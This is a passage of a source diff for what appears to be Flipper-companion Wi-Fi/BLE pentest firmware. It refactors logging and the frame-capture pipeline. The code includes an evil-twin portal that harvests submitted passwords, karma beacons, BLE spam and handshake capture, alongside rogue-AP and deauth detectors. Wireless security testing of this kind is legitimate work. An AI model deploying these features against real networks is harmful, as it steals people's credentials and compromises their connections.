-        DEBUG_SER_PRINTLN("AP start FAILED!");
+        LOG_ERROR("AP start failed: %d", ret);
         sendResponse('e', "AP_FAILED");
         return;
     }
@@ -1440,11 +1971,11 @@ void startEvilTwin(PortalType portal) {
     digitalWrite(LED_R, HIGH);  // Red on for evil twin
     digitalWrite(LED_G, LOW);
     digitalWrite(LED_B, LOW);
-    DEBUG_SER_PRINTLN("Evil twin AP active!");
+    LOG_INFO("Evil twin AP active");
 }
 
 void stopEvilTwin() {
-    DEBUG_SER_PRINTLN("Stopping Evil Twin...");
+    LOG_INFO("Stopping Evil Twin...");
 
     // Signal task to stop gracefully
     evilTwinActive = false;
@@ -1480,7 +2011,7 @@ void stopEvilTwin() {
     digitalWrite(LED_R, LOW);
     digitalWrite(LED_G, HIGH);
     digitalWrite(LED_B, LOW);
-    DEBUG_SER_PRINTLN("Evil twin stopped, WiFi back to STA mode");
+    LOG_INFO("Evil twin stopped, WiFi back to STA mode");
 }
 
 void clientHandlerTaskFunc(void* params) {
@@ -1517,7 +2048,7 @@ void clientHandlerTaskFunc(void* params) {
     }
 
     // Clean exit
-    DEBUG_SER_PRINTLN("HTTP handler task exiting...");
+    LOG_DEBUG("HTTP handler task exiting...");
     clientHandlerTask = NULL;
     vTaskDelete(NULL);
 }
@@ -1528,8 +2059,7 @@ void handleHTTPRequest(WiFiClient& client, String& request) {
     int pathEnd = request.indexOf(' ', pathStart);
     String path = request.substring(pathStart, pathEnd);
 
-    DEBUG_SER_PRINT("Request: ");
-    DEBUG_SER_PRINTLN(path);
+    LOG_DEBUG("Request: %s", path.c_str());
 
     String response = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n";
 
@@ -1600,10 +2130,7 @@ void handleHTTPRequest(WiFiClient& client, String& request) {
             password.replace("%40", "@");
             password.replace("+", " ");
 
-            DEBUG_SER_PRINT("CREDS: ");
-            DEBUG_SER_PRINT(username);
-            DEBUG_SER_PRINT(" / ");
-            DEBUG_SER_PRINTLN(password);
+            LOG_DEBUG("CREDS: %s / %s", username.c_str(), password.c_str());
 
             // Send to Flipper
             String credData = username + String((char)SEP) + password;
@@ -1667,9 +2194,21 @@ void bleScanCallback(T_LE_CB_DATA* p_data) {
 }
 
 void startBLEScan() {
-    DEBUG_SER_PRINTLN("Starting BLE scan...");
-    ble_devices.clear();
+    if (bleScanTask) {
+        sendResponse('e', "BLE_SCANNING");
+        return;
+    }
     bleScanActive = true;
+    xTaskCreate(bleScanTaskFunc, "blescan", 4096, (void*)(uintptr_t)taskRequestId(), 1, &bleScanTask);
+    sendResponse('l', "BLE_SCANNING");
+}
+
+// The scan itself, off the command path: starts it, waits out the window
+// (or an 'lx' / 'x' that stops it early) and reports SCAN_DONE
+void bleScanTaskFunc(void* params) {
+    setTaskRequestId((uint16_t)(uintptr_t)params);
+    LOG_INFO("Starting BLE scan...");
+    ble_devices.clear();
 
     startLedEffect(2);  // BLE rainbow (purple spectrum)
 
@@ -1687,13 +2226,20 @@ void startBLEScan() {
     scanner->startScan(5000);  // 5 second scan
 
     // Wait for scan to complete
-    vTaskDelay(5500 / portTICK_PERIOD_MS);
+    for (int waited = 0; waited < 5500 && bleScanActive; waited += 100) {
+        vTaskDelay(100 / portTICK_PERIOD_MS);
+    }
 
     stopLedEffect();
-    bleScanActive = false;
-    BLE.end();
+    if (bleScanActive) {
+        bleScanActive = false;
+        BLE.end();
+    }
 
     sendResponse('l', "SCAN_DONE:" + String(ble_devices.size()));
+    setTaskRequestId(0);
+    bleScanTask = NULL;
+    vTaskDelete(NULL);
 }
 
 void stopBLEScan() {
@@ -1764,8 +2310,7 @@ void bleSpamTaskFunc(void* params) {
     int spamIndex = 0;
     int typeRotation = 0;
 
-    DEBUG_SER_PRINT("BLE spam started, type: ");
-    DEBUG_SER_PRINTLN(bleSpamType);
+    LOG_INFO("BLE spam started, type: %d", bleSpamType);
 
     while (bleSpamActive) {
         uint8_t currentType = bleSpamType;
@@ -1852,7 +2397,7 @@ void bleSpamTaskFunc(void* params) {
         digitalWrite(LED_B, !digitalRead(LED_B));  // Visual feedback
     }
 
-    DEBUG_SER_PRINTLN("BLE spam stopped");
+    LOG_INFO("BLE spam stopped");
     vTaskDelete(NULL);
 }
 #else
@@ -1869,64 +2414,52 @@ void stopBLESpam() {}
 
 // ============== Client Detection (Promiscuous Mode) ==============
 
-// Get unique channels from scanned networks
-void getNetworkChannels(std::vector<int>& channelList) {
-    channelList.clear();
-    for (size_t i = 0; i < networks.size(); i++) {
-        int ch = networks[i].channel;
-        bool found = false;
-        for (size_t j = 0; j < channelList.size(); j++) {
-            if (channelList[j] == ch) {
-                found = true;
-                break;
-            }
-        }
-        if (!found) {
-            channelList.push_back(ch);
-        }
-    }
-}
-
-// Channel hopping task for client detection
+// Channel hopping task for client detection. Where and how long to dwell
+// comes from chanSched, which learns from what each visit turned up.
 void channelHopTaskFunc(void* params) {
     (void)params;
-    std::vector<int> channelList;
-    int channelIndex = 0;
-    int cycleCount = 0;
+    int hops = 0;
 
-    DEBUG_SER_PRINTLN("Channel hop task started");
+    LOG_DEBUG("Channel hop task started");
 
     while (promiscActive) {
-        // Get current network channels
-        getNetworkChannels(channelList);
-
-        if (channelList.size() > 0) {
-            // Hop to next channel
-            channelIndex = (channelIndex + 1) % channelList.size();
-            int newChannel = channelList[channelIndex];
+        TRACE_SPAN(span, TRACE_HOP_ITER);
+        uint32_t dwell = 0;
+        // Survey discovery visits go to channels the scheduler doesn't know
+        int channel = netSurvey.active ? surveySweepNext(&netSurvey, &chanSched, millis(), &dwell) : 0;
+        if (channel > 0) {
+            if (channel != currentPromiscChannel) {
+                wext_set_channel(WLAN0_NAME, channel);
+                currentPromiscChannel = channel;
+            }
+            TRACE_PAUSE(span);
+            vTaskDelay(dwell / portTICK_PERIOD_MS);
+            continue;
+        }
+        channel = chanSchedNext(&chanSched, millis(), &dwell);
 
-            if (newChannel != currentPromiscChannel) {
-                wext_set_channel(WLAN0_NAME, newChannel);
-                currentPromiscChannel = newChannel;
+        if (channel > 0) {
+            if (channel != currentPromiscChannel) {
+                wext_set_channel(WLAN0_NAME, channel);
+                currentPromiscChannel = channel;
             }
 
-            // Debug: print stats every full cycle through channels
-            if (channelIndex == 0) {
-                cycleCount++;
-                DEBUG_SER_PRINT("Cycle ");
-                DEBUG_SER_PRINT(cycleCount);
-                DEBUG_SER_PRINT(": frames=");
-                DEBUG_SER_PRINT(frameCount);
-                DEBUG_SER_PRINT(" data=");
-                DEBUG_SER_PRINT(dataFrameCount);
-                DEBUG_SER_PRINT(" probe=");
-                DEBUG_SER_PRINT(probeCount);
-                DEBUG_SER_PRINT(" assoc=");
-                DEBUG_SER_PRINT(assocCount);
-                DEBUG_SER_PRINT(" auth=");
-                DEBUG_SER_PRINT(authCount);
-                DEBUG_SER_PRINT(" clients=");
-                DEBUG_SER_PRINTLN(clients.size());
+            unsigned long start = millis();
+            unsigned long startFrames = frameCount;
+            unsigned long startClients = newClientTotal;
+            TRACE_PAUSE(span);
+            vTaskDelay(dwell / portTICK_PERIOD_MS);
+            TRACE_RESUME(span);
+
+            unsigned long now = millis();
+            chanSchedRecord(&chanSched, channel, now, now - start,
+                            frameCount - startFrames, newClientTotal - startClients);
+
+            // Debug: print stats roughly once per pass over the channels
+            if (++hops % (chanSched.active ? chanSched.active : 1) == 0) {
+                LOG_DEBUG("Hops %d: frames=%lu data=%lu unmatched=%lu probe=%lu assoc=%lu auth=%lu clients=%d",
+                          hops, frameCount, dataFrameCount, unmatchedBssidCount,
+                          probeCount, assocCount, authCount, activeClientCount());
             }
         } else {
             // No networks scanned yet, cycle through common channels
@@ -1935,17 +2468,109 @@ void channelHopTaskFunc(void* params) {
             defaultIdx = (defaultIdx + 1) % 5;
             wext_set_channel(WLAN0_NAME, defaultChannels[defaultIdx]);
             currentPromiscChannel = defaultChannels[defaultIdx];
+            TRACE_PAUSE(span);
+            vTaskDelay(1500 / portTICK_PERIOD_MS);
         }
-
-        // Dwell time per channel (1500ms for better client capture)
-        vTaskDelay(1500 / portTICK_PERIOD_MS);
     }
 
-    DEBUG_SER_PRINTLN("Channel hop task ended");
+    LOG_DEBUG("Channel hop task ended");
     channelHopTask = NULL;
     vTaskDelete(NULL);
 }
 
+// Per-channel scheduler stats: COUNT:<n>, then one record per active channel
+// channel|aps|weight|visits|dwell_ms|frames|new_clients
+void sendChannelStats() {
+    sendResponse('m', "COUNT:" + String(chanSched.active));
+    for (int i = 0; i < CHAN_SLOTS; i++) {
+        ChanState& c = chanSched.slots[i];
+        if (c.ap_count == 0) continue;
+        String data = String(c.channel) + String((char)SEP) +
+                      String(c.ap_count) + String((char)SEP) +
+                      String(c.weight) + String((char)SEP) +
+                      String(c.visits) + String((char)SEP) +
+                      String(c.total_dwell_ms) + String((char)SEP) +
+                      String(c.total_frames) + String((char)SEP) +
+                      String(c.total_new_clients);
+        sendResponse('m', data);
+    }
+}
+
+void cmd_frame_stats(char* args) {
+    if (args[0] == SEP) args++;
+    if (args[0] == 'c') {
+        frameStatsClear(&frameStats);
+        sendResponse('f', "CLEARED");
+    } else {
+        sendFrameStats();
+    }
+}
+
+void cmd_clients(char* args) {
+    if (args[0] == SEP) args++;
+    if (args[0] == 't') {
+        clientTtlMs = strtoul(args + 1, NULL, 10) * 1000UL;
+        sendResponse('c', "TTL:" + String(clientTtlMs / 1000));
+    } else if (args[0] == 's') {
+        sendResponse('c', "ACTIVE:" + String(activeClientCount()) +
+                          "|MAX:" + String(MAX_CLIENTS) +
+                          "|TTL:" + String(clientTtlMs / 1000) +
+                          "|ADDED:" + String(newClientTotal) +
+                          "|EVLRU:" + String(clientStats.evicted_lru) +
+                          "|EVTTL:" + String(clientStats.evicted_ttl));
+    } else {
+        sendClientList();
+    }
+}
+
+// Frame statistics for every channel that has seen traffic: COUNT:<n>|UNK:<n>, then
+// channel|dwell_ms|bytes|<per-type counts>|<rssi histogram>
+// Per-type order: beacon,probe_req,probe_resp,auth_assoc,deauth,mgmt_other,ctrl,data
+// Binary 'f' record: channel u8 | dwell_ms u32 | bytes u32 | types u32[8] | rssi u32[8]
+void sendFrameStats() {
+    static FrameStatsSnapshot snap[CHAN_SLOTS];   // Too big for the loop stack
+    int count = 0;
+    for (int i = 0; i < CHAN_SLOTS; i++) {
+        frameStatsSnapshot(&frameStats, i, &snap[i]);
+        if (snap[i].total > 0) count++;
+    }
+
+    sendResponse('f', "COUNT:" + String(count) +
+                      "|UNK:" + String(frameStats.unknown_channel.load(std::memory_order_relaxed)));
+    for (int i = 0; i < CHAN_SLOTS; i++) {
+        FrameStatsSnapshot& fs = snap[i];
+        if (fs.total == 0) continue;
+        uint32_t dwell = chanSched.slots[i].total_dwell_ms;
+
+        if (binaryProto) {
+            uint8_t payload[9 + 4 * (FS_TYPES + FS_RSSI_BINS)];
+            ProtoBuf pb;
+            protoBufInit(&pb, payload, sizeof(payload));
+            protoPutU8(&pb, chanSlotToChannel(i));
+            protoPutU32(&pb, dwell);
+            protoPutU32(&pb, fs.bytes);
+            for (int t = 0; t < FS_TYPES; t++) protoPutU32(&pb, fs.frames[t]);
+            for (int b = 0; b < FS_RSSI_BINS; b++) protoPutU32(&pb, fs.rssi_hist[b]);
+            sendFrame('f', payload, pb.len);
+            continue;
+        }
+
+        String data = String(chanSlotToChannel(i)) + String((char)SEP) +
+                      String(dwell) + String((char)SEP) +
+                      String(fs.bytes) + String((char)SEP);
+        for (int t = 0; t < FS_TYPES; t++) {
+            if (t) data += ',';
+            data += String(fs.frames[t]);
+        }
+        data += String((char)SEP);
+        for (int b = 0; b < FS_RSSI_BINS; b++) {
+            if (b) data += ',';
+            data += String(fs.rssi_hist[b]);
+        }
+        sendResponse('f', data);
+    }
+}
+
 void startPromisc() {
     if (promiscActive) return;
 
@@ -1959,7 +2584,7 @@ void startPromisc() {
         xTaskCreate(channelHopTaskFunc, "ChannelHop", 4096, NULL, 2, &channelHopTask);
     }
 
-    DEBUG_SER_PRINTLN("Promiscuous mode enabled with channel hopping");
+    LOG_INFO("Promiscuous mode enabled with channel hopping");
 }
 
 void stopPromisc() {
@@ -1976,21 +2601,17 @@ void stopPromisc() {
         channelHopTask = NULL;
     }
 
-    DEBUG_SER_PRINTLN("Promiscuous mode disabled");
+    LOG_INFO("Promiscuous mode disabled");
 }
 
+// Runs in the driver's receive path: count, snapshot into the capture ring
+// and wake the worker. No parsing, table access or allocation here.
 void promiscCallback(unsigned char* buf, unsigned int len, void* userdata) {
+    TRACE_SPAN(span, TRACE_PROMISC_CB);
     if (len < 24) return;
 
     frameCount++;  // Track total frames
 
-    // Visual debug - quick blue flash every 100 frames
-    if (frameCount % 100 == 0) {
-        digitalWrite(LED_B, HIGH);
-        delayMicroseconds(500);
-        digitalWrite(LED_B, LOW);
-    }
-
     int rssi = -50;  // Default RSSI if not available
     uint8_t* bssid = NULL;
 
@@ -2013,316 +2634,301 @@ void promiscCallback(unsigned char* buf, unsigned int len, void* userdata) {
         bssid = info->bssid;
     }
 
-    uint8_t frameType = buf[0] & 0x0C;  // Bits 2-3 = type
-    uint8_t frameSubtype = (buf[0] >> 4) & 0x0F;  // Bits 4-7 = subtype
-
-    // Data frames (type=2, so frameType & 0x0C == 0x08)
-    if (frameType == 0x08) {
-        processDataFrame(buf, len, rssi, bssid);
+    frameStatsRecord(&frameStats, currentPromiscChannel, buf[0], len, rssi);
 
-        // Process EAPOL frames for PMKID and handshake capture
-        if (pmkidCaptureActive || handshakeCaptureActive) {
-            processEAPOL(buf, len, rssi);
-        }
-    }
-    // Management frames (type=0, so frameType & 0x0C == 0x00)
-    else if (frameType == 0x00) {
+    // Only queue what the worker parses - beacons alone would otherwise
+    // fill the ring, so they and deauths are let through only while a
+    // detector or the survey wants them
+    uint8_t frameType = buf[0] & 0x0C;
+    uint8_t frameSubtype = (buf[0] >> 4) & 0x0F;
+    if (frameType == 0x00) {
         switch (frameSubtype) {
-            case 0x00:  // Association Request - client joining AP
-            case 0x02:  // Reassociation Request - client roaming
-            case 0x04:  // Probe Request - client scanning
-            case 0x0B:  // Authentication - client authenticating
-                processManagementFrame(buf, len, rssi, frameSubtype);
+            case 0x00: case 0x02: case 0x04: case 0x0B:
+                break;
+            case 0x05: case 0x08:
+                if (!rogueDetector.active && !netSurvey.active) return;
                 break;
+            case 0x0A: case 0x0C:
+                if (!deauthDetector.active) return;
+                break;
+            default:
+                return;
         }
+    } else if (frameType != 0x08) {
+        return;
     }
-}
-
-// Process management frames (probe req, assoc req, reassoc req, auth)
-void processManagementFrame(uint8_t* frame, int len, int rssi, uint8_t subtype) {
-    if (len < 24) return;
-
-    // For management frames: addr1=DA, addr2=SA(client), addr3=BSSID
-    uint8_t* clientMac = frame + 10;  // Source address (client)
-    uint8_t* bssid = frame + 16;      // BSSID (AP)
 
-    // Skip broadcast/multicast source
-    if (clientMac[0] & 0x01) return;
+    CaptureFrame* f = captureRingReserve(&captureRing);
+    if (!f) return;  // Counted as a drop
 
-    // Track frame types
-    if (subtype == 0x04) probeCount++;
-    else if (subtype == 0x00 || subtype == 0x02) assocCount++;
-    else if (subtype == 0x0B) authCount++;
+    uint16_t capLen = len;
+    if (capLen > CAPTURE_SNAP_LEN) {
+        capLen = CAPTURE_SNAP_LEN;
+        captureRing.truncated.fetch_add(1, std::memory_order_relaxed);
+    }
+    f->len = len;
+    f->cap_len = capLen;
+    f->rssi = rssi;
+    f->channel = currentPromiscChannel;
+    f->has_bssid = (bssid != NULL);
+    if (bssid) memcpy(f->bssid, bssid, 6);
+    memcpy(f->data, buf, capLen);
 
-    // Check if we already know this client
-    String macStr = macToString(clientMac);
-    for (size_t i = 0; i < clients.size(); i++) {
-        if (clients[i].mac_str == macStr) {
-            clients[i].rssi = rssi;
-            clients[i].last_seen = millis();
-            return;
-        }
+    // Wake the worker on the empty -> non-empty edge only
+    if (captureRingCommit(&captureRing) == 1 && captureWorkerTask) {
+        xTaskNotifyGive(captureWorkerTask);
     }
+}
 
-    // Find AP by BSSID (for assoc/reassoc/auth frames)
-    int apIndex = -1;
-    if (subtype != 0x04) {  // Not a probe request (probes go to broadcast BSSID)
-        for (size_t i = 0; i < networks.size(); i++) {
-            if (memcmp(networks[i].bssid, bssid, 6) == 0) {
-                apIndex = i;
-                break;
-            }
+// Drains the capture ring, the scan queue and workerCmdQueue. This is the
+// only task that changes the client/network tables (and so the delta log)
+// or the capture lists; aging, and commands that list or clear them, come
+// here rather than taking a lock.
+void captureWorkerFunc(void* params) {
+    (void)params;
+    unsigned long processed = 0;
+    unsigned long lastAge = millis();
+
+    while (true) {
+        unsigned long now = millis();
+        if (now - lastAge >= CLIENT_AGE_INTERVAL_MS) {
+            lastAge = now;
+            int aged = ageClients(now);
+            if (aged > 0) LOG_DEBUG("Aged out %d clients", aged);
+            deauthTick(&deauthDetector, now);
+            // Nothing is heard while a scan has promiscuous mode stopped
+            if (netSurvey.active && !g_scanActive) surveyAge(&netSurvey, now);
         }
-    } else {
-        // For probe requests, try to extract SSID
-        if (len > 26) {
-            uint8_t ieType = frame[24];
-            uint8_t ieLen = frame[25];
-            if (ieType == 0 && ieLen > 0 && ieLen <= 32 && (26 + ieLen) <= len) {
-                char probedSSID[33] = {0};
-                memcpy(probedSSID, frame + 26, ieLen);
-                probedSSID[ieLen] = '\0';
-
-                // Log probe if probe logging is active
-                if (probeLogActive) {
-                    addProbeLogEntry(probedSSID, clientMac, rssi);
-                }
 
-                // Karma attack: respond to probe with matching beacon
-                if (karmaActive && strlen(probedSSID) > 0) {
-                    sendKarmaBeacon(probedSSID, currentPromiscChannel);
-                }
+        ScanResultRaw raw;
+        while (xQueueReceive(g_scanQueue, &raw, 0) == pdTRUE) applyScanEntry(&raw, millis());
 
-                for (size_t i = 0; i < networks.size(); i++) {
-                    if (networks[i].ssid == probedSSID) {
-                        apIndex = i;
-                        break;
-                    }
-                }
-            }
+        CmdMsg* msg;
+        while ((msg = cmdQueuePeek(&workerCmdQueue)) != NULL) {
+            setTaskRequestId(msg->req_id);
+            processCommand(msg);
+            sendRequestEnd(msg);
+            setTaskRequestId(0);
+            cmdQueueRelease(&workerCmdQueue);
         }
-    }
 
-    // Add new client
-    if (clients.size() < MAX_CLIENTS) {
-        WiFiClient_t cli;
-        memcpy(cli.mac, clientMac, 6);
-        cli.mac_str = macStr;
-        cli.rssi = rssi;
-        cli.ap_index = apIndex;
-        cli.last_seen = millis();
-
-        clients.push_back(cli);
+        const CaptureFrame* f = captureRingPeek(&captureRing);
+        if (!f) {
+            // Timeout covers a notification lost to the commit/peek race
+            ulTaskNotifyTake(pdTRUE, 20 / portTICK_PERIOD_MS);
+            continue;
+        }
 
-        // If associated with an AP, add to that network's client list
-        if (apIndex >= 0) {
-            WiFiNetwork& net = networks[apIndex];
-            if (net.client_count < MAX_CLIENTS_PER_AP) {
-                memcpy(net.clients[net.client_count], clientMac, 6);
-                net.client_rssi[net.client_count] = rssi;
-                net.client_count++;
+        {
+            TRACE_SPAN(span, TRACE_CAPTURE_FRAME);
+            rogueCheckFrame(&rogueDetector, f->data, f->cap_len, f->channel, now);
+            deauthCheckFrame(&deauthDetector, f->data, f->cap_len, f->rssi, f->channel, now);
+            if (netSurvey.active) {
+                surveyFrame(&netSurvey, f->data, f->cap_len, f->rssi, f->channel, now, NULL);
             }
-
-            // Notify Flipper
-            String data = String(apIndex) + String((char)SEP) + macStr + String((char)SEP) + String(rssi);
-            sendResponse('c', data);
-
-            const char* frameNames[] = {"Assoc", "?", "Reassoc", "?", "Probe", "?", "?", "?", "?", "?", "?", "Auth"};
-            DEBUG_SER_PRINT(frameNames[subtype]);
-            DEBUG_SER_PRINT(" client: ");
-            DEBUG_SER_PRINT(macStr);
-            DEBUG_SER_PRINT(" -> AP ");
-            DEBUG_SER_PRINTLN(apIndex);
-        } else {
-            DEBUG_SER_PRINT("Probe client: ");
-            DEBUG_SER_PRINTLN(macStr);
+            processFrame((uint8_t*)f->data, f->cap_len, f->rssi,
+                         f->has_bssid ? (uint8_t*)f->bssid : NULL);
         }
+        captureRingRelease(&captureRing);
+
+        // Visual debug - blue blip every 100 frames, without busy-waiting
+        processed++;
+        if (processed % 100 == 0) digitalWrite(LED_B, HIGH);
+        else if (processed % 100 == 5) digitalWrite(LED_B, LOW);
     }
 }
 
-// Process probe requests to find clients searching for networks (legacy - now handled by processManagementFrame)
-void processProbeRequest(uint8_t* frame, int len, int rssi) {
-    if (len < 24) return;
-
-    probeCount++;
-
-    // Source MAC is at offset 10 (addr2)
-    uint8_t* clientMac = frame + 10;
-
-    // Skip broadcast/multicast
-    if (clientMac[0] & 0x01) return;
+// ============== Tracing ==============
 
-    // Check if we already know this client
-    String macStr = macToString(clientMac);
-    for (size_t i = 0; i < clients.size(); i++) {
-        if (clients[i].mac_str == macStr) {
-            clients[i].rssi = rssi;
-            clients[i].last_seen = millis();
-            return;
-        }
+void cmd_trace(char* args) {
+    if (args[0] == SEP) args++;
+#ifdef GATTROSE_TRACE
+    if (args[0] == 'c') {
+        traceClear();
+        sendResponse('t', "CLEARED");
+        return;
     }
+    sendTraceStats();
+#else
+    (void)args;
+    sendResponse('t', "DISABLED");
+#endif
+}
 
-    // Try to extract SSID from probe request (if directed probe)
-    // SSID IE starts at offset 24 (after 802.11 header)
-    int apIndex = -1;
-    if (len > 26) {
-        uint8_t ieType = frame[24];
-        uint8_t ieLen = frame[25];
-        if (ieType == 0 && ieLen > 0 && ieLen <= 32 && (26 + ieLen) <= len) {
-            // Extract SSID
-            char probedSSID[33] = {0};
-            memcpy(probedSSID, frame + 26, ieLen);
-            probedSSID[ieLen] = '\0';
-
-            // Find matching network by SSID
-            for (size_t i = 0; i < networks.size(); i++) {
-                if (networks[i].ssid == probedSSID) {
-                    apIndex = i;
-                    break;
-                }
-            }
+// Cycle counts per trace site: COUNT:<sites>|HZ:<cpu hz>, then
+// site|count|min|max|mean|<histogram>, bucket i = [4^i, 4^(i+1)) cycles
+// Binary 't' record: site u8 | count u32 | min u32 | max u32 | mean u32 | hist u32[16]
+void sendTraceStats() {
+#ifdef GATTROSE_TRACE
+    sendResponse('t', "COUNT:" + String(TRACE_SITES) + "|HZ:" + String(TRACE_CPU_HZ));
+    for (int i = 0; i < TRACE_SITES; i++) {
+        TraceStat s = traceStats[i];    // Copy; the site may be updating it
+        uint32_t mean = s.count ? (uint32_t)(s.total / s.count) : 0;
+        uint32_t min = s.count ? s.min : 0;
+
+        if (binaryProto) {
+            uint8_t payload[17 + 4 * TRACE_BUCKETS];
+            ProtoBuf pb;
+            protoBufInit(&pb, payload, sizeof(payload));
+            protoPutU8(&pb, i);
+            protoPutU32(&pb, s.count);
+            protoPutU32(&pb, min);
+            protoPutU32(&pb, s.max);
+            protoPutU32(&pb, mean);
+            for (int b = 0; b < TRACE_BUCKETS; b++) protoPutU32(&pb, s.hist[b]);
+            sendFrame('t', payload, pb.len);
+            continue;
         }
-    }
-
-    // Add client even without AP association (apIndex = -1 means unassociated)
-    if (clients.size() < MAX_CLIENTS) {
-        WiFiClient_t cli;
-        memcpy(cli.mac, clientMac, 6);
-        cli.mac_str = macStr;
-        cli.rssi = rssi;
-        cli.ap_index = apIndex;
-        cli.last_seen = millis();
-
-        clients.push_back(cli);
 
-        // If associated with an AP, add to that network's client list
-        if (apIndex >= 0) {
-            WiFiNetwork& net = networks[apIndex];
-            if (net.client_count < MAX_CLIENTS_PER_AP) {
-                memcpy(net.clients[net.client_count], clientMac, 6);
-                net.client_rssi[net.client_count] = rssi;
-                net.client_count++;
-            }
-
-            // Notify Flipper
-            String data = String(apIndex) + String((char)SEP) + macStr + String((char)SEP) + String(rssi);
-            sendResponse('c', data);
+        String data = String(traceSiteName(i)) + String((char)SEP) +
+                      String(s.count) + String((char)SEP) +
+                      String(min) + String((char)SEP) +
+                      String(s.max) + String((char)SEP) +
+                      String(mean) + String((char)SEP);
+        for (int b = 0; b < TRACE_BUCKETS; b++) {
+            if (b) data += ',';
+            data += String(s.hist[b]);
         }
-
-        DEBUG_SER_PRINT("Probe client: ");
-        DEBUG_SER_PRINTLN(macStr);
+        sendResponse('t', data);
     }
+#endif
 }
 
-void processDataFrame(uint8_t* frame, int len, int rssi, uint8_t* bssidFromInfo) {
-    if (len < 24) return;
+// ============== Platform Shim ==============
+// Hooks called by the portable core (net_tables, frame_parser)
 
-    dataFrameCount++;
+unsigned long platformMillis() {
+    return millis();
+}
 
-    uint8_t* addr1 = frame + 4;
-    uint8_t* addr2 = frame + 10;
-    uint8_t* addr3 = frame + 16;
+// Log lines share the USB port with echoed protocol traffic, so they are
+// queued whole on their own ring and dropped rather than waited for
+void logEmit(int level, const char* line, size_t len) {
+    (void)level;
+    TxPart part = {line, len};
+    if (txRingPush(&logRing, &part, 1) && txWriterTask) {
+        xTaskNotifyGive(txWriterTask);
+    }
+}
 
-    uint8_t toDS = (frame[1] & 0x01);
-    uint8_t fromDS = (frame[1] & 0x02) >> 1;
+void onNetworkAdded(int networkIndex) {
+    // Only the survey adds networks from the capture worker; scans report
+    // their own results. Subscribers get the insert from onTableChange.
+    if (netSurvey.active && !tableSubscribed) sendNetworkRecord(networkIndex, networks[networkIndex]);
+}
 
-    uint8_t* clientMac;
-    uint8_t* bssid;
+void onClientAdded(int clientIndex) {
+    WiFiClient_t& cli = clients[clientIndex];
 
-    if (toDS && !fromDS) {
-        // Client -> AP: addr1=BSSID, addr2=client, addr3=DA
-        clientMac = addr2;
-        bssid = addr1;
-    } else if (!toDS && fromDS) {
-        // AP -> Client: addr1=client, addr2=BSSID, addr3=SA
-        clientMac = addr1;
-        bssid = addr2;
-    } else {
-        return;
+    // Notify Flipper - only clients tied to a known AP are listed there.
+    // Subscribers get the insert from onTableChange instead.
+    if (cli.ap_index >= 0 && !tableSubscribed) {
+        sendClientRecord(cli.ap_index, cli.mac, cli.rssi);
     }
 
-    // Use BSSID from frame if not provided via userdata
-    if (!bssidFromInfo) {
-        bssidFromInfo = bssid;
-    }
+#if LOG_LEVEL >= LOG_LEVEL_DEBUG
+    char macStr[MAC_STR_LEN];
+    formatMac(macStr, cli.mac);
+    LOG_DEBUG("New client: %s -> AP %d", macStr, cli.ap_index);
+#endif
+}
 
-    // Skip broadcast/multicast
-    if (clientMac[0] & 0x01) return;
+void onTableChange(const DeltaChange* change) {
+    if (!tableSubscribed) return;
+    // A change is news, not part of a reply, even when a scan with a
+    // request ID made it
+    uint16_t reqId = pauseTaskRequestId();
+    sendTableChange(change, change->version);
+    if (reqId) setTaskRequestId(reqId);
+}
 
-    // Find AP by BSSID
-    int apIndex = -1;
-    for (size_t i = 0; i < networks.size(); i++) {
-        if (memcmp(networks[i].bssid, bssidFromInfo, 6) == 0) {
-            apIndex = i;
-            break;
+void onProbeSsid(const uint8_t* mac, const char* ssid, int rssi) {
+    // Probe analytics; report each device/SSID pair the first time
+    if (probeLogActive) {
+        if (probeStatsRecord(&probeStats, mac, ssid, millis())) {
+            sendResponse('P', String("NEW:") + ssid + String((char)SEP) + macToString((uint8_t*)mac));
         }
     }
 
-    // Debug: periodic status print
-    if (millis() - lastDebugPrint > 5000) {
-        lastDebugPrint = millis();
-        DEBUG_SER_PRINT("Data frames: ");
-        DEBUG_SER_PRINT(dataFrameCount);
-        DEBUG_SER_PRINT(", unmatched: ");
-        DEBUG_SER_PRINT(unmatchedBssidCount);
-        DEBUG_SER_PRINT(", clients found: ");
-        DEBUG_SER_PRINTLN(clients.size());
-    }
-
-    if (apIndex < 0) {
-        unmatchedBssidCount++;
-        return;
+    // Karma attack: respond to probe with matching beacon
+    if (karmaActive && ssid[0]) {
+        sendKarmaBeacon(ssid, currentPromiscChannel);
     }
+}
 
-    // Check if client already known
-    String macStr = macToString(clientMac);
-    for (size_t i = 0; i < clients.size(); i++) {
-        if (clients[i].mac_str == macStr) {
-            clients[i].rssi = rssi;
-            clients[i].last_seen = millis();
-            return;
-        }
-    }
+void onEapolCaptured(char type, const char* ssid) {
+    sendResponse(type, "CAPTURED:" + String(ssid));
+}
 
-    // Add new client
-    if (clients.size() < MAX_CLIENTS) {
-        WiFiClient_t cli;
-        memcpy(cli.mac, clientMac, 6);
-        cli.mac_str = macStr;
-        cli.rssi = rssi;
-        cli.ap_index = apIndex;
-        cli.last_seen = millis();
+// ============== Baseline Flash Store ==============
+// Hooks for baseline_store.cpp: slot n is BS_SLOT_SIZE bytes at
+// BASELINE_FLASH_BASE + n * BS_SLOT_SIZE. flash_stream_* return 1 on success.
 
-        clients.push_back(cli);
+static uint32_t slotAddress(int slot) {
+    return BASELINE_FLASH_BASE + slot * BS_SLOT_SIZE;
+}
 
-        // Also add to network's client list
-        WiFiNetwork& net = networks[apIndex];
-        if (net.client_count < MAX_CLIENTS_PER_AP) {
-            memcpy(net.clients[net.client_count], clientMac, 6);
-            net.client_rssi[net.client_count] = rssi;
-            net.client_count++;
-        }
+bool storeReadSlot(int slot, uint32_t offset, void* buf, uint32_t len) {
+    return flash_stream_read(&baselineFlash, slotAddress(slot) + offset, len, (uint8_t*)buf) == 1;
+}
 
-        // Notify Flipper
-        String data = String(apIndex) + String((char)SEP) + macStr + String((char)SEP) + String(rssi);
-        sendResponse('c', data);
+bool storeEraseSlot(int slot) {
+    for (uint32_t off = 0; off < BS_SLOT_SIZE; off += 4096) {
+        flash_erase_sector(&baselineFlash, slotAddress(slot) + off);
+    }
+    return true;
+}
 
-        DEBUG_SER_PRINT("New client: ");
-        DEBUG_SER_PRINTLN(macStr);
+// Body first, header last: until the header lands the slot reads as empty
+bool storeWriteSlot(int slot, const uint8_t* buf, uint32_t len, uint32_t headerLen) {
+    storeEraseSlot(slot);
+    uint32_t addr = slotAddress(slot);
+    if (len > headerLen &&
